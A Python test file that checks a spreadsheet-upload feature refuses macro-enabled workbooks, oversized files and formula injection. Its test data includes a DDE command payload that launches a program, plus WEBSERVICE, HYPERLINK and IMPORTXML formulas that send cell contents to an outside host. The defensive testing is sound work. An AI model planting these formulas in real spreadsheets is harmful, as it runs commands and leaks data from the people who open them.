"""A register is a file that anybody can have sent to the office: nothing in it is run, worked out or fetched."""

import io
import zipfile

import pytest

from comity.agreements.bringing.lines import read_lines
from comity.agreements.bringing.rows import preview
from comity.agreements.models import BroughtRegister
from comity.partners.tables import LARGEST, NotATable
from tests.agreements.test_bringing import BACKEND, brought, workbook

ROWS = [["Title", "Partner", "Signed on"], ["Memorandum", "PA", "2021-04-16"]]
WITH_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PLAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def with_macros(rows, *, is_told):
    """A workbook with a project of macros inside; `is_told`: its list of parts says so, as that of an .xlsm does."""
    made = io.BytesIO()
    with zipfile.ZipFile(workbook(rows)) as was, zipfile.ZipFile(made, "w") as now:
        for name in was.namelist():
            part = was.read(name)
            if is_told and name == "[Content_Types].xml":
                part = part.replace(PLAIN.encode(), WITH_MACROS.encode())
            now.writestr(name, part)
        now.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Auto_Open" * 50)
    made.seek(0)
    return made


@pytest.mark.parametrize("is_told", [True, False])
def test_a_workbook_with_macros_under_another_name_is_read_without_them_or_refused(is_told):
    try:
        lines = read_lines(with_macros(ROWS, is_told=is_told), "register.xlsx")
    except NotATable as refusal:
        assert str(refusal)
    else:
        assert lines == ROWS


class Endless(io.RawIOBase):
    """A hundred megabytes, of which it is counted how many were read."""

    def __init__(self):
        self.read_bytes = 0

    def read(self, size=-1):
        size = 100 * 1024 * 1024 if size < 0 else size
        self.read_bytes += size
        return b"x" * size


def test_of_a_file_of_a_hundred_megabytes_no_more_is_read_than_shows_that_it_is_too_large():
    file = Endless()

    with pytest.raises(NotATable, match="5 MB"):
        read_lines(file, "register.csv")

    assert file.read_bytes == LARGEST + 1


FETCHES = ['=WEBSERVICE("https://example.org/?"&A1)', "=cmd|' /C calc'!A0"]
POINTS_ELSEWHERE = [
    '=HYPERLINK("https://example.org/?"&A1)',
    '=HYPERLINK("https://example.org/?"&A1,A1)',
    '=IMPORTXML("https://example.org/","//a")',
    "='https://example.org/[other.xlsx]Sheet1'!A1",
]


def told_of(office, lines):
    """What became of the one row of a table: its state, and what speaks against it."""
    row = preview(brought(office, lines)).rows[0]
    return str(row.state), " ".join(row.faults)


@pytest.mark.parametrize("formula", [*FETCHES, *POINTS_ELSEWHERE])
def test_a_formula_in_a_table_of_text_is_neither_worked_out_nor_entered(office, formula):
    state, faults = told_of(office, [ROWS[0], [formula, *ROWS[1][1:]]])

    assert state == "refused"
    assert "formula" in faults


@pytest.mark.parametrize("formula", POINTS_ELSEWHERE)
def test_a_formula_in_a_workbook_is_neither_worked_out_nor_entered(office, formula):
    state, faults = told_of(office, read_lines(workbook([ROWS[0], [formula, *ROWS[1][1:]]]), "register.xlsx"))

    assert state == "refused"
    assert "formula" in faults


@pytest.mark.parametrize("formula", FETCHES)
def test_a_workbook_that_fetches_when_it_is_opened_is_refused_as_a_whole_and_nothing_of_it_is_kept(
    office, client, formula
):
    client.force_login(office.officer, backend=BACKEND)
    file = workbook([ROWS[0], [formula, *ROWS[1][1:]]])
    file.name = "register.xlsx"

    page = client.post("/en/agreements/registers/", {"file": file})

    assert page.status_code == 422
    assert "fetches something from elsewhere" in page.text
    assert not BroughtRegister.objects.exists()


def test_of_a_link_the_words_are_read_and_its_address_is_kept_nowhere(office):
    rows = [ROWS[0], ['=HYPERLINK("https://example.org/secret","Memorandum")', *ROWS[1][1:]]]

    register = brought(office, read_lines(workbook(rows), "register.xlsx"))

    assert str(preview(register).rows[0].title) == "Memorandum"
    assert "example.org" not in str(register.lines)
